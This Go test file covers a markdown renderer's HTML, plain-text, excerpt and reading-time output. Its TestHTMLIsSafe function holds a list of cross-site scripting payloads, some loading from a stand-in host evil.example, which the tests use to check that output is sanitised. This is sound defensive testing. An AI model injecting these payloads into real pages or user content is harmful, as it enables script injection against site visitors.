package markdown

import (
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// parse parses an HTML fragment and returns its elements.
func elements(t *testing.T, fragment string) []*html.Node {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		t.Fatalf("parse %q: %v", fragment, err)
	}
	var out []*html.Node
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			out = append(out, n)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return out
}

func attr(n *html.Node, key string) (string, bool) {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val, true
		}
	}
	return "", false
}

// assertSafe fails when the HTML has an element or attribute that can run
// code or load something other than an http(s) resource.
func assertSafe(t *testing.T, src, out string) {
	t.Helper()
	allowedElems := map[string]bool{
		"p": true, "a": true, "em": true, "strong": true, "del": true, "code": true, "pre": true,
		"ul": true, "ol": true, "li": true, "blockquote": true, "hr": true, "br": true, "img": true,
		"h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true,
		"table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
	}
	for _, n := range elements(t, out) {
		if !allowedElems[n.Data] {
			t.Errorf("%q: element <%s> in %q", src, n.Data, out)
		}
		for _, a := range n.Attr {
			k := strings.ToLower(a.Key)
			if strings.HasPrefix(k, "on") || k == "style" || k == "srcdoc" || k == "formaction" {
				t.Errorf("%q: attribute %s in %q", src, k, out)
			}
			if k == "href" || k == "src" {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if i := strings.Index(v, ":"); i >= 0 && !strings.ContainsAny(v[:i], "/?#") {
					if scheme := v[:i]; scheme != "http" && scheme != "https" && scheme != "mailto" {
						t.Errorf("%q: %s with scheme %q in %q", src, k, scheme, out)
					}
				}
			}
		}
		if n.Data == "a" {
			if r, _ := attr(n, "rel"); r != "noopener noreferrer" {
				t.Errorf("%q: link without rel=noopener noreferrer in %q", src, out)
			}
		}
	}
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "<iframe", "<style", "<svg", "<object", "<embed", "<form", "<input"} {
		if strings.Contains(lower, bad) {
			t.Errorf("%q: output contains %q: %q", src, bad, out)
		}
	}
}

func TestHTMLIsSafe(t *testing.T) {
	payloads := []string{
		`<script>alert(1)</script>`,
		"Hello <script>alert(1)</script> world",
		"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
		`<img src=x onerror=alert(1)>`,
		`<img src="x" onerror="alert(1)">`,
		`![x](x" onerror="alert(1))`,
		`![alt](javascript:alert(1))`,
		`![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
		`[click](javascript:alert(1))`,
		`[click](JaVaScRiPt:alert(1))`,
		`[click](  javascript:alert(1))`,
		`[click](java&#x09;script:alert(1))`,
		`[click](&#106;avascript:alert(1))`,
		`[click](vbscript:msgbox(1))`,
		`[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
		`<javascript:alert(1)>`,
		`[x]: javascript:alert(1)` + "\n\n[ref][x]",
		`<a href="javascript:alert(1)">raw</a>`,
		`<a href="https://example.org" onclick="alert(1)">raw</a>`,
		`<iframe src="https://evil.example"></iframe>`,
		`<div style="background:url(javascript:alert(1))">x</div>`,
		`<svg onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<object data="x.swf"></object><embed src="x.swf">`,
		`<form action="https://evil.example"><input name=x><button formaction=javascript:alert(1)>go</button></form>`,
		`<details open ontoggle=alert(1)>`,
		`<!-- <img src=x onerror=alert(1)> -->`,
		"```html\n<script>alert(1)</script>\n```",
		"`<script>alert(1)</script>`",
		`**bold <img src=x onerror=alert(1)>**`,
		`<p title="</p><script>alert(1)</script>">x</p>`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		`<base href="https://evil.example/">`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		"# Heading <script>alert(1)</script>",
		"https://example.org/?q=<script>alert(1)</script>",
		`[a](https://example.org "title\" onmouseover=\"alert(1)")`,
	}
	for _, p := range payloads {
		for _, o := range []Options{{}, {NewTab: true, TopHeading: 2}} {
			out := Render(p, o)
			assertSafe(t, p, out)
		}
	}
	// The text of a script inside code is shown, escaped, not dropped.
	if out := HTML("`<script>alert(1)</script>`"); !strings.Contains(out, "&lt;script&gt;") {
		t.Errorf("code span: %q", out)
	}
}

func TestHTML(t *testing.T) {
	for _, c := range []struct {
		name, src string
		o         Options
		want      string
	}{
		{"empty", "  \n", Options{}, ""},
		{"paragraph", "Hallo **wereld**.", Options{}, "<p>Hallo <strong>wereld</strong>.</p>\n"},
		{"link", "[VWS](https://www.rijksoverheid.nl/)", Options{},
			`<p><a href="https://www.rijksoverheid.nl/" rel="noopener noreferrer">VWS</a></p>` + "\n"},
		{"link new tab", "[VWS](https://www.rijksoverheid.nl/)", Options{NewTab: true},
			`<p><a href="https://www.rijksoverheid.nl/" rel="noopener noreferrer" target="_blank">VWS</a></p>` + "\n"},
		{"autolink", "Zie https://example.org.", Options{},
			`<p>Zie <a href="https://example.org" rel="noopener noreferrer">https://example.org</a>.</p>` + "\n"},
		{"relative", "[route](/embed/editions/2023)", Options{},
			`<p><a href="/embed/editions/2023" rel="noopener noreferrer">route</a></p>` + "\n"},
		{"heading ids", "## De route\n\n## Van één week naar vier\n\n## De route", Options{},
			`<h2 id="de-route">De route</h2>` + "\n" + `<h2 id="van-één-week-naar-vier">Van één week naar vier</h2>` + "\n" + `<h2 id="de-route-1">De route</h2>` + "\n"},
		{"top heading", "# A\n\n### B", Options{TopHeading: 2}, `<h2 id="a">A</h2>` + "\n" + `<h4 id="b">B</h4>` + "\n"},
		{"top heading up", "### A\n\n#### B", Options{TopHeading: 2}, `<h2 id="a">A</h2>` + "\n" + `<h3 id="b">B</h3>` + "\n"},
		{"top heading capped", "# A\n\n###### B", Options{TopHeading: 3}, `<h3 id="a">A</h3>` + "\n" + `<h6 id="b">B</h6>` + "\n"},
		{"image", "![Een bakfiets](https://example.org/fiets.jpg)", Options{},
			`<p><img src="https://example.org/fiets.jpg" alt="Een bakfiets"></p>` + "\n"},
		{"raw html dropped", "a <b onclick=x>b</b> c", Options{}, "<p>a b c</p>\n"},
		{"table", "| a | b |\n|---|---|\n| 1 | 2 |", Options{},
			"<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n"},
	} {
		if got := Render(c.src, c.o); got != c.want {
			t.Errorf("%s: Render(%q) = %q, want %q", c.name, c.src, got, c.want)
		}
	}
}

func TestPlainText(t *testing.T) {
	src := "## Titel\n\nEen *korte* tekst &amp; meer.\n\n- één\n- twee\n\n![Alt tekst](https://example.org/a.png)\n\n```\ncode 1\ncode 2\n```\n<script>alert(1)</script>"
	want := "Titel\nEen korte tekst & meer.\néén\ntwee\nAlt tekst\ncode 1\ncode 2"
	if got := PlainText(src); got != want {
		t.Errorf("PlainText = %q, want %q", got, want)
	}
}

func TestExcerpt(t *testing.T) {
	src := "## Van één week naar vier\n\nTot 2021 was er de landelijke e-healthweek: één week voor het hele land.\n\nIn 2021 ging die verder."
	for _, c := range []struct {
		length int
		want   string
	}{
		{0, ""},
		{-5, ""},
		{1000, "Tot 2021 was er de landelijke e-healthweek: één week voor het hele land. In 2021 ging die verder."},
		{30, "Tot 2021 was er de landelijke…"},
		{45, "Tot 2021 was er de landelijke e-healthweek…"}, // the colon before the cut goes
		{5, "Tot…"},
		{3, "To…"},
		{1, "…"},
	} {
		got := Excerpt(src, c.length)
		if got != c.want {
			t.Errorf("Excerpt(%d) = %q, want %q", c.length, got, c.want)
		}
		if n := utf8.RuneCountInString(got); c.length > 0 && n > c.length {
			t.Errorf("Excerpt(%d) has %d characters", c.length, n)
		}
	}
	// Never inside a rune, never before a combining mark.
	long := strings.Repeat("é", 50) + "e\u0301e\u0301e\u0301"
	for n := 1; n < 60; n++ {
		got := Excerpt(long, n)
		if !utf8.ValidString(got) {
			t.Fatalf("Excerpt(%d) is not valid UTF-8: %q", n, got)
		}
		if strings.Contains(got, "e"+Ellipsis) && n > 51 {
			t.Errorf("Excerpt(%d) = %q separates a combining mark", n, got)
		}
	}
	if got := Excerpt("<script>alert(1)</script>\n\nHallo <img src=x onerror=alert(1)>", 100); got != "Hallo" {
		t.Errorf("Excerpt with raw HTML = %q", got)
	}
	if got := Excerpt("# Alleen een kop", 100); got != "" {
		t.Errorf("Excerpt of a heading only = %q", got)
	}
}

func TestReadingMinutes(t *testing.T) {
	words := func(n int) string { return strings.TrimSpace(strings.Repeat("woord ", n)) }
	for _, c := range []struct {
		src  string
		want int
	}{
		{"", 0},
		{"  \n\n", 0},
		{"- * -", 0},
		{"Hallo", 1},
		{words(200), 1},
		{words(201), 2},
		{words(1000), 5},
		{"## " + words(100) + "\n\n" + words(150), 2},
	} {
		if got := ReadingMinutes(c.src); got != c.want {
			t.Errorf("ReadingMinutes(%.30q…) = %d, want %d", c.src, got, c.want)
		}
	}
}

func TestWords(t *testing.T) {
	for s, want := range map[string]int{"": 0, "e-health": 2, "Cliënten, zorg & welzijn!": 3, "2021–2024": 2, "café": 1} {
		if got := Words(s); got != want {
			t.Errorf("Words(%q) = %d, want %d", s, got, want)
		}
	}
}

func TestConcurrent(t *testing.T) {
	src := "## Kop\n\nTekst met een [link](https://example.org) en **nadruk**.\n\n## Kop\n"
	want := Render(src, Options{NewTab: true, TopHeading: 2})
	done := make(chan string)
	for range 8 {
		go func() {
			for range 50 {
				if got := Render(src, Options{NewTab: true, TopHeading: 2}); got != want {
					done <- got
					return
				}
				_ = Excerpt(src, 20)
				_ = ReadingMinutes(src)
			}
			done <- want
		}()
	}
	for range 8 {
		if got := <-done; got != want {
			t.Errorf("concurrent Render = %q, want %q", got, want)
		}
	}
}
